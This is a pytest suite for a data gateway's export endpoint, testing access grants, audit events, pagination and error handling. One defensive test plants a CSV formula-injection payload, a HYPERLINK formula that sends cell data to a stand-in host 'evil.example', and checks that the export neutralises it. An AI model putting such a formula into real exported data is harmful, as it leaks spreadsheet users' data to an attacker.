"""Export edge cases in process (the demo app over httpx.ASGITransport, real SQLite sources)."""

from __future__ import annotations

import asyncio
import contextlib
import datetime as dt
import gc
import io
import sqlite3
import zipfile
from typing import Any

import orjson
import pytest
import sqlalchemy as sa

from gateway import export_stream
from gateway.app import create_app
from gateway.demo import BIGDATA, HOUSING
from gateway.platform import new_grant_row
from policies.catalog import Mask
from policies.decision import GrantConditions
from policies.share import Mode

AMR = "amr.enterprise_registration"


def headers(gateway, user: str) -> dict[str, str]:
    token = gateway.signer.issue(HOUSING.code, ["consumer"], ttl=600)
    return {"Authorization": f"Bearer {token}", "X-Purpose": "test", "X-Request-User": user}


async def test_a_source_down_at_the_start_is_a_plain_503_and_recorded(served, tmp_path):
    client, gateway, _ = served
    with contextlib.closing(sqlite3.connect(tmp_path / "amr.db")) as db, db:
        db.execute("ALTER TABLE enterprise RENAME TO enterprise_moved")
    answer = await client.get(f"/export/{AMR}", params={"items": "name"}, headers=headers(gateway, "down"))
    assert answer.status_code == 503 and answer.headers["content-type"] == "application/json"
    assert answer.json()["errors"][0]["extensions"]["code"] == "SOURCE_UNAVAILABLE"
    events = [e for e in await gateway.audit.events(limit=100) if e["user"] == "down"]
    assert [e["outcome"] for e in events] == ["started", "SOURCE_UNAVAILABLE"]
    assert events[1]["detail"]["rows"] == 0
    assert set(events[1]["decisions"].values()) == {"SOURCE_UNAVAILABLE"}  # counted as unavailable


async def test_head_is_405_and_runs_nothing(served):
    client, gateway, _ = served
    answer = await client.head(f"/export/{AMR}", params={"items": "name"}, headers=headers(gateway, "head"))
    assert answer.status_code == 405 and answer.headers["allow"] == "GET"
    assert not [e for e in await gateway.audit.events(limit=100) if e["user"] == "head"]


async def test_empty_export_is_a_complete_empty_body(served):
    client, gateway, _ = served
    params = {"items": "name", "after": "ZZZZZZZZZZZZZZZZZZ"}
    answer = await client.get(f"/export/{AMR}", params=params, headers=headers(gateway, "empty"))
    assert answer.status_code == 200 and answer.content == b""
    end = [e for e in await gateway.audit.events(limit=100) if e["user"] == "empty"][-1]
    assert end["outcome"] == "answered" and end["detail"]["rows"] == 0


async def test_scoped_items_are_never_read_for_subjects_outside_the_grant(served):
    """A region-limited item is fetched only for the admitted rows' keys (DESIGN section 5)."""
    client, gateway, _ = served
    consumer = HOUSING.code
    until = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
    conditions = GrantConditions(("420104",), {"address": Mask(2, 0)})
    await gateway.platform.add_grant(new_grant_row(consumer, AMR, ["address"], "test", until, [Mode.BULK],
                                                   conditions=conditions))  # fmt: skip
    statements: list[tuple[str, Any]] = []
    engine = gateway.connectors[gateway.catalog.resources[AMR].provider].read_engine  # type: ignore[attr-defined]
    listen = lambda *a: statements.append((a[2], a[3]))  # noqa: E731
    sa.event.listen(engine, "before_cursor_execute", listen)
    try:
        answer = await client.get(
            f"/export/{AMR}", params={"items": "name,address"}, headers=headers(gateway, "r")
        )
    finally:
        sa.event.remove(engine, "before_cursor_execute", listen)
    rows = [orjson.loads(line) for line in answer.content.splitlines()]
    assert rows and all(row["uscc"][2:8] == "420104" for row in rows)
    assert all(set(row["address"][2:]) == {"*"} and list(row) == ["uscc", "name", "address"] for row in rows)
    reading_address = [params for sql, params in statements if "address" in sql]
    assert reading_address, statements
    keys = {str(p) for params in reading_address for p in params if isinstance(p, str) and len(p) == 18}
    assert keys == {row["uscc"] for row in rows}


async def test_csv_formula_cells_from_the_source_are_neutralised_ndjson_unchanged(served, tmp_path):
    """A value stored as a formula reaches an Excel user's CSV (bom=1) as text, in a plain CSV
    and inside a package's data.csv; NDJSON gives it as stored."""
    client, gateway, _ = served
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    with contextlib.closing(sqlite3.connect(tmp_path / "amr.db")) as db, db:
        (first,) = db.execute("SELECT min(uscc) FROM enterprise").fetchone()
        db.execute("UPDATE enterprise SET ent_name = ? WHERE uscc = ?", (formula, first))
    ask = lambda **p: client.get(  # noqa: E731
        f"/export/{AMR}", params={"items": "name", "limit": "1", **p}, headers=headers(gateway, "f")
    )
    plain = (await ask(format="csv", bom="1")).content.decode("utf-8-sig")
    quoted = "'" + formula.replace('"', '""')  # RFC 4180 section 2.7: a quote doubled
    assert plain.splitlines()[1] == f'{first},"{quoted}"'
    package = (await ask(format="package", data="csv", bom="1")).content
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        assert archive.read("data.csv").decode("utf-8-sig") == plain
    assert orjson.loads((await ask()).content) == {"uscc": first, "name": formula}


async def test_a_capped_export_counts_its_subjects_once_a_page_not_once_a_row(served):
    """A daily cap is spent by a page in one transaction: per row it was one transaction
    re-reading the day's whole usage each time (quadratic: 1,500 rows took 40 s) under the
    lock every capped query of the process waits on."""
    client, gateway, _ = served
    until = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
    conditions = GrantConditions(daily_cap=1000)
    await gateway.platform.add_grant(new_grant_row(HOUSING.code, AMR, ["address"], "test", until, [Mode.BULK],
                                                   conditions=conditions))  # fmt: skip
    statements: list[str] = []
    engine = gateway.platform.engine.sync_engine
    listen = lambda *a: statements.append(a[2])  # noqa: E731
    sa.event.listen(engine, "before_cursor_execute", listen)
    try:
        answer = await client.get(
            f"/export/{AMR}", params={"items": "address"}, headers=headers(gateway, "c")
        )
    finally:
        sa.event.remove(engine, "before_cursor_execute", listen)
    rows = [orjson.loads(line) for line in answer.content.splitlines()]
    assert len(rows) == 30
    usage = [sql for sql in statements if "grant_usage" in sql]
    assert 0 < len(usage) <= 4, usage  # look, then count: a page of 30 subjects


async def run_asgi(app: Any, path: str, query: str, head: dict[str, str], on_body: Any) -> list[dict]:
    """One request straight through the ASGI app, ``on_body`` awaited after each body chunk
    is handed over (what a server does between two sends); the messages sent, in order."""
    sent: list[dict] = []
    asked = asyncio.Event()

    async def receive() -> dict:
        if not asked.is_set():
            asked.set()
            return {"type": "http.request", "body": b"", "more_body": False}
        await asyncio.Event().wait()  # the client stays until the answer ends
        return {"type": "http.disconnect"}

    async def send(message: dict) -> None:
        sent.append(message)
        if message["type"] == "http.response.body" and message.get("body"):
            await on_body(message)

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET",
             "scheme": "http", "path": path, "raw_path": path.encode(), "root_path": "",
             "query_string": query.encode(), "client": ("127.0.0.1", 5000), "server": ("gw", 80),
             "headers": [(k.lower().encode(), v.encode()) for k, v in head.items()]}  # fmt: skip
    await app(scope, receive, send)
    return sent


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")  # a cut ZIP left open
@pytest.mark.parametrize("format_", ["ndjson", "csv", "package"])
async def test_a_grant_revoked_mid_export_cuts_it_before_the_next_page(served, monkeypatch, format_):
    """Revocation is effective at once (README, Access workflow): an export that rests on a
    grant checks it again before each page it sends, and is cut with the refusal a query
    would now get; the end event carries that code."""
    _, gateway, _ = served
    monkeypatch.setattr(export_stream, "PAGE_ROWS", 5)  # 30 organizations: six pages
    until = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
    grant = await gateway.platform.add_grant(
        new_grant_row(HOUSING.code, AMR, ["address"], "test", until, [Mode.BULK])
    )
    app = create_app(gateway.settings, gateway)
    app.state.gateway = gateway
    user = f"revoked-{format_}"

    async def revoke(_: dict) -> None:
        await gateway.platform.revoke_grant(grant.id)

    sent = await run_asgi(app, f"/export/{AMR}", f"items=address&format={format_}",
                          headers(gateway, user), revoke)  # fmt: skip
    assert sent[0]["status"] == 200
    assert sent[-1].get("more_body") is True  # cut: no final chunk, the client sees it incomplete
    if format_ == "ndjson":
        body = b"".join(m.get("body", b"") for m in sent[1:])
        assert len(body.splitlines()) == 5
    end = [e for e in await gateway.audit.events(limit=100) if e["user"] == user][-1]
    assert end["outcome"] == "CONDITIONAL_ACCESS_REQUIRED" and end["detail"]["rows"] == 5
    del sent
    gc.collect()  # a package cut mid-member must have closed its ZIP, not left it to __del__


async def test_a_consumer_reads_its_export_events_without_the_count_of_rows_outside_its_grant(served):
    """``leftOut`` counts subjects outside the divisions the consumer is granted (with since:
    how many of them changed): the operator's to read, not the consumer's."""
    client, gateway, _ = served
    until = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
    await gateway.platform.add_grant(new_grant_row(HOUSING.code, AMR, ["address"], "test", until, [Mode.BULK],
                                                   conditions=GrantConditions(("420104",))))  # fmt: skip
    answer = await client.get(f"/export/{AMR}", params={"items": "address"}, headers=headers(gateway, "out"))
    assert answer.status_code == 200
    read = "{ auditEvents(limit: 1000) { events { user outcome detail } } }"

    async def ends(department: str, role: str) -> list[dict]:
        token = gateway.signer.issue(department, [role], ttl=600)
        sent = {"Authorization": f"Bearer {token}", "X-Purpose": "test"}
        page = (await client.post("/graphql", json={"query": read}, headers=sent)).json()
        return [e for e in page["data"]["auditEvents"]["events"] if e["user"] == "out"][1:]

    (operator,) = await ends(BIGDATA.code, "operator")
    assert operator["detail"]["leftOut"] > 0
    (consumer,) = await ends(HOUSING.code, "consumer")
    assert "leftOut" not in consumer["detail"]
    assert {k: v for k, v in operator["detail"].items() if k != "leftOut"} == consumer["detail"]


@pytest.mark.parametrize("items", ["name", "address"])  # unconditional; per-row (a region grant)
async def test_a_source_row_without_a_key_neither_shows_nor_ends_the_export_early(served, items):
    """A row whose key is NULL has no place in key order (SQLite sorts it first, PostgreSQL
    last): it was sent as a row without a subject, and when it ended a page the next page was
    asked for after the text 'None', so every key sorting below 'None' (USCCs from 1 to 9)
    was skipped while the export still ended as complete."""
    client, gateway, _ = served
    until = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
    await gateway.platform.add_grant(new_grant_row(HOUSING.code, AMR, ["address"], "test", until, [Mode.BULK],
                                                   conditions=GrantConditions(("4201",))))  # fmt: skip
    path = gateway.settings.data_dir / "amr.db"
    with contextlib.closing(sqlite3.connect(path)) as db, db:
        db.execute("INSERT INTO enterprise (uscc, ent_name, address) VALUES (NULL, 'keyless', 'nowhere')")
        stored = [
            uscc for (uscc,) in db.execute("SELECT uscc FROM enterprise WHERE uscc IS NOT NULL ORDER BY uscc")
        ]
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.setattr(export_stream, "PAGE_ROWS", 1)  # the NULL row (first) ends a page
    try:
        answer = await client.get(f"/export/{AMR}", params={"items": items}, headers=headers(gateway, "k"))
    finally:
        monkeypatch.undo()
    rows = [orjson.loads(line) for line in answer.content.splitlines()]
    assert [row["uscc"] for row in rows] == stored


async def test_a_bug_before_the_first_row_is_a_json_500_recorded_without_its_text(served, monkeypatch):
    """Mid-stream a bug was cut and recorded (INTERNAL); before the first row it escaped as
    Starlette's plain-text 500 and the export's start event was left without an end."""
    client, gateway, _ = served

    def broken(rows: list) -> bytes:
        raise RuntimeError(f"secret detail {rows[0]}")

    monkeypatch.setattr(export_stream, "ndjson_lines", broken)
    answer = await client.get(f"/export/{AMR}", params={"items": "name"}, headers=headers(gateway, "bug"))
    assert answer.status_code == 500 and answer.headers["content-type"] == "application/json"
    assert answer.json()["errors"][0]["extensions"] == {"code": "INTERNAL"}
    assert "secret" not in answer.text and "uscc" not in answer.text
    events = [e for e in await gateway.audit.events(limit=100) if e["user"] == "bug"]
    assert [e["outcome"] for e in events] == ["started", "INTERNAL"]


async def test_a_server_stopping_before_the_first_row_still_records_the_end(served, monkeypatch):
    _, gateway, _ = served
    reading = asyncio.Event()

    async def stuck(job: Any, scanned: list) -> list:
        reading.set()
        await asyncio.Event().wait()
        return scanned

    monkeypatch.setattr(export_stream, "_admitted", stuck)
    app = create_app(gateway.settings, gateway)
    app.state.gateway = gateway

    async def nothing(_: dict) -> None: ...

    task = asyncio.ensure_future(
        run_asgi(app, f"/export/{AMR}", "items=name", headers(gateway, "stop"), nothing)
    )
    await reading.wait()
    task.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await task
    events = [e for e in await gateway.audit.events(limit=100) if e["user"] == "stop"]
    assert [e["outcome"] for e in events] == ["started", "partial"] and events[1]["detail"]["rows"] == 0


async def test_an_item_under_an_open_and_a_district_grant_is_exported_for_every_row(served):
    """Two grants for one item, one open and one limited to a district: the open one decides
    (every row, no per-row condition), yet the item was held back to be read per admitted
    row, a step that runs only for per-row exports, so it was missing from every row."""
    client, gateway, _ = served
    until = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
    for conditions in (GrantConditions(), GrantConditions(("420103",))):
        await gateway.platform.add_grant(
            new_grant_row(HOUSING.code, AMR, ["address"], "test", until, [Mode.BULK], conditions=conditions)
        )
    answer = await client.get(f"/export/{AMR}", params={"items": "address"}, headers=headers(gateway, "two"))
    rows = [orjson.loads(line) for line in answer.content.splitlines()]
    with contextlib.closing(sqlite3.connect(gateway.settings.data_dir / "amr.db")) as db:
        stored = [
            {"uscc": k, "address": a}
            for k, a in db.execute("SELECT uscc, address FROM enterprise ORDER BY uscc")
        ]
    assert rows == stored


async def test_x_on_behalf_of_is_refused_naming_it_not_silently_ignored(served):
    """Forwarding is read on /graphql only. On /export the header was ignored and the export
    decided for the caller itself: a downstream gateway meaning to export for its consumer
    would have lent that consumer its own grants. Now 400 naming the header."""
    client, gateway, _ = served
    sent = {**headers(gateway, "forwarding"), "X-On-Behalf-Of": "eyJ.eyJ.sig"}
    answer = await client.get(f"/export/{AMR}", params={"items": "name"}, headers=sent)
    assert answer.status_code == 400, answer.text
    error = answer.json()["errors"][0]
    assert (error["extensions"]["code"], error["extensions"]["header"]) == ("BAD_REQUEST", "X-On-Behalf-Of")
